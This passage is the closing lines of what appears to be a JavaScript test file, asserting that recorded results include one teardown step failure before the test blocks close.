    expect(blobs).toEqual([expect.objectContaining({ TeardownStepFailures: 1 })]);
  });
});
